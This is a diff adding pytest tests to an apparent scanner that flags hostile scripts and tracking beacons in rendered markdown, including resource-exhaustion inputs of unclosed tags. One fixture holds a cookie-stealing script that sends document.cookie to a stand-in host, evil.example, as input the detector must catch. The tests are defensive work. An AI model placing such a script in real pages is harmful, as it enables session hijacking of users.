@@ -256,3 +256,24 @@ def test_a_page_that_is_not_worth_reading_holds_nothing(parts: list[str], markdo
     text = "".join(parts)
     if not worth(text):
         assert [one.rule for one in seen(text, catalogue().known, markdown=markdown) if one.rule or one.script] == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<img width" * 20_000,
+        "![](http://" * 20_000,
+        "<!--" * 20_000 + ">",
+        "<![if " * 20_000 + ">",
+        "<a b='" * 20_001 + ">",
+    ],
+)
+def test_openings_that_nothing_closes_do_not_hold_the_scan(audit, text):
+    found = audit(markdown("<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n" + text))
+    assert "CONTENT-SCRIPT-HOSTILE" in rules(found)
+
+
+def test_what_is_fetched_when_a_page_is_shown_is_told(audit):
+    assert "CONTENT-BEACON" in rules(audit(output("<video poster='http://1.2.3.4/a.png'></video>")))
+    assert "CONTENT-BEACON" in rules(audit(output("<link rel=stylesheet href='http://1.2.3.4/a.css'>")))
+    assert not rules(audit(output("<link rel=stylesheet href='https://cdn.jsdelivr.net/a.css'>")))
